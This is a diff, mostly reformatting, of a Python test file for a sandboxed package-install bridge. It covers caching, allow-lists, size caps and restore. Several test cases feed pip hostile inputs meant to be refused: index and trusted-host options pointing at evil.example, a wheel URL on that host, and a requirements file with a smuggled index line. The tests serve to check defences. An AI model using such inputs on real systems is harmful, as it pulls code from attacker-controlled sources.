@@ -77,7 +77,9 @@ async def test_a_pure_python_and_a_binary_wheel_install_and_import_in_the_next_c
     child = await bridge.run("!python3 -c 'import tabulate; print(tabulate.__name__)'", session)
     assert "tabulate" in child.text
     listed = await bridge.run("%pip list", session)
-    assert any(line.split()[:1] == ["tabulate"] and line.endswith("session") for line in listed.text.splitlines())
+    assert any(
+        line.split()[:1] == ["tabulate"] and line.endswith("session") for line in listed.text.splitlines()
+    )
     assert any(line.split()[:1] == ["numpy"] and line.endswith("image") for line in listed.text.splitlines())
     shown = await bridge.run("%pip show msgpack", session)
     assert "Location: /packages/site" in shown.text and "Installer: kernelbridge" in shown.text
@@ -96,7 +98,9 @@ async def test_shell_pip_and_requirements_files_go_through_the_host_too(bridge: 
     assert from_file.status == "ok", from_file.text
     verdict = await bridge.probe("import six, ujson\nverdict = [six.__version__, ujson.__file__]", session)
     assert verdict[0] == "1.16.0" and verdict[1].startswith("/packages/site/")
-    bad = await bridge.run("open('bad.txt', 'w').write('six\\n--index-url http://evil.example/simple\\n')", session)
+    bad = await bridge.run(
+        "open('bad.txt', 'w').write('six\\n--index-url http://evil.example/simple\\n')", session
+    )
     assert bad.status == "ok"
     refused = await bridge.run("%pip install -r bad.txt", session)
     assert "bad.txt, line 2" in one_line_error(refused.text) and "option" in refused.text
@@ -122,15 +126,16 @@ async def test_no_second_numpy_unless_asked(bridge: Bridge) -> None:
 @pytest.mark.parametrize(
     ("code", "expected"),
     [
-        ("%pip install kernelbridge-no-such-package-4b2e", "no package kernelbridge-no-such-package-4b2e on the host's index"),
+        ("%pip install kb-no-such-package-4b2e", "no package kb-no-such-package-4b2e on the host's index"),
         ("%pip install docopt", "docopt has no binary wheel for the sandbox"),
-        ("%pip install 'requests==2.20.0' 'idna==3.4'", "version conflict: you asked for idna==3.4; requests 2.20.0 depends on idna"),
+        ("%pip install 'requests==2.20.0' 'idna==3.4'",
+         "version conflict: you asked for idna==3.4; requests 2.20.0 depends on idna"),
         ("%pip install 'tabulate==0.0.1'", "no version of tabulate matches tabulate==0.0.1"),
         ("%pip install --index-url http://evil.example/simple six", "that option is not accepted here"),
         ("%pip install -e .", "that option is not accepted here"),
         ("%pip install 'six @ https://evil.example/six.whl'", "names a URL"),
         ("%pip install ./local/pkg", "is a URL or a path: only package requirements"),
-        ("%pip install 'six --extra-index-url http://evil.example'", "options, URLs, paths and -e are refused"),
+        ("%pip install 'six --extra-index-url http://x.example'", "options, URLs, paths and -e are refused"),
         ("runtime.pip_install('--trusted-host=evil.example')", "is an option"),
     ],
 )  # fmt: skip
@@ -146,8 +151,8 @@ async def test_bad_input_is_one_line_and_installs_nothing(bridge: Bridge, code: 
     if "docopt" in code:
         assert "kernelbridge image build --with docopt" in result.text
     after = await bridge.probe(
-        "import os, importlib\nimportlib.invalidate_caches()\nverdict = [x, sorted(n for n in os.listdir('/packages/site')"
-        " if not n.startswith('.'))]",
+        "import os, importlib\nimportlib.invalidate_caches()\n"
+        "verdict = [x, sorted(n for n in os.listdir('/packages/site') if not n.startswith('.'))]",
         session,
     )
     assert after[0] == 41, "the session's variables are kept"
@@ -176,7 +181,12 @@ async def test_cache_reuse_across_sessions_and_bridges_offline(bridge: Bridge) -
     assert second.status == "ok", second.text
     assert first.data["packages"][0]["source"] == "index"
     assert second.data["packages"] == [
-        {"requirements": ["tabulate"], "installed": first.data["packages"][0]["installed"], "ok": True, "source": "cache"}
+        {
+            "requirements": ["tabulate"],
+            "installed": first.data["packages"][0]["installed"],
+            "ok": True,
+            "source": "cache",
+        }
     ]
     assert second.seconds < 5
     wheels = list((bridge.state_dir / "packages" / "wheels").glob("*.whl"))
@@ -184,7 +194,9 @@ async def test_cache_reuse_across_sessions_and_bridges_offline(bridge: Bridge) -
     # Another bridge on the same state directory, whose index is down: the cached wheel still
     # installs, and a package it never saw says the index cannot be reached.
     async with second_bridge(bridge.state_dir, KERNELBRIDGE_WARM_POOL="0", **DEAD_INDEX) as offline:
-        cached = await offline.run("%pip install tabulate\nimport tabulate\nprint(tabulate.__name__)", "offline")
+        cached = await offline.run(
+            "%pip install tabulate\nimport tabulate\nprint(tabulate.__name__)", "offline"
+        )
         assert cached.status == "ok" and "tabulate" in cached.text, cached.text
         assert cached.data["packages"][0]["source"] == "cache"
         down = await offline.run(STATE_PROBE + "%pip install toolz", "offline-down", timeout=120)
@@ -194,7 +206,9 @@ async def test_cache_reuse_across_sessions_and_bridges_offline(bridge: Bridge) -
 
 
 async def test_the_policy_none_and_an_allow_list(tmp_path: Path, sandbox_image: str) -> None:
-    async with open_bridge(tmp_path / "none", KERNELBRIDGE_WARM_POOL="0", KERNELBRIDGE_PACKAGES="none") as off:
+    async with open_bridge(
+        tmp_path / "none", KERNELBRIDGE_WARM_POOL="0", KERNELBRIDGE_PACKAGES="none"
+    ) as off:
         refused = await off.run("%pip install six", "s")
         assert "KERNELBRIDGE_PACKAGES=none" in one_line_error(refused.text)
         capabilities = (await off.client.read_resource("kernelbridge://capabilities")).contents[0].text
@@ -205,7 +219,9 @@ async def test_the_policy_none_and_an_allow_list(tmp_path: Path, sandbox_image: 
         ok = await allowed.run("%pip install tabulate", "s", timeout=120)
         assert ok.status == "ok", ok.text
         other = await allowed.run("%pip install six", "s")
-        assert "six is not allowed on this host (KERNELBRIDGE_PACKAGES allows tabulate)" in one_line_error(other.text)
+        assert "six is not allowed on this host (KERNELBRIDGE_PACKAGES allows tabulate)" in one_line_error(
+            other.text
+        )
 
 
 async def test_the_caps_on_bytes_and_installs(tmp_path: Path, sandbox_image: str) -> None:
@@ -215,7 +231,11 @@ async def test_the_caps_on_bytes_and_installs(tmp_path: Path, sandbox_image: str
         # networkx is a pure-Python wheel of about 2 MB that unpacks to about 8 MB.
         big = await capped.run("%pip install networkx", "s", timeout=120)
         line = one_line_error(big.text)
-        assert "networkx" in line and "KERNELBRIDGE_PACKAGES_MAX_BYTES" in line and "nothing was installed" in line
+        assert (
+            "networkx" in line
+            and "KERNELBRIDGE_PACKAGES_MAX_BYTES" in line
+            and "nothing was installed" in line
+        )
         for name in ("six", "tabulate"):
             done = await capped.run(f"%pip install {name}", "s", timeout=120)
             assert done.status == "ok", done.text
@@ -226,13 +246,17 @@ async def test_the_caps_on_bytes_and_installs(tmp_path: Path, sandbox_image: str
 
 
 async def test_a_restore_reinstalls_the_recorded_wheels(bridge: Bridge) -> None:
-    made = await bridge.run("%pip install tabulate==0.9.0\nimport tabulate\ntabulate.__version__", "to-restore", timeout=120)
+    made = await bridge.run(
+        "%pip install tabulate==0.9.0\nimport tabulate\ntabulate.__version__", "to-restore", timeout=120
+    )
     assert made.status == "ok" and "0.9.0" in made.text, made.text
     _, notebook = await bridge.call("export_notebook", session="to-restore")
     (cell,) = [c for c in json.loads(notebook)["cells"] if "%pip" in "".join(c["source"])]
     (record,) = cell["metadata"]["kernelbridge"]["packages"]
     assert record["ok"] is True and record["requirements"] == ["tabulate==0.9.0"]
-    assert [w["name"] for w in record["installed"]] == ["tabulate"] and len(record["installed"][0]["sha256"]) == 64
+    assert [w["name"] for w in record["installed"]] == ["tabulate"] and len(
+        record["installed"][0]["sha256"]
+    ) == 64
     restored = await bridge.run(
         "import tabulate\nprint(tabulate.__version__, tabulate.__file__)",
         "restored",
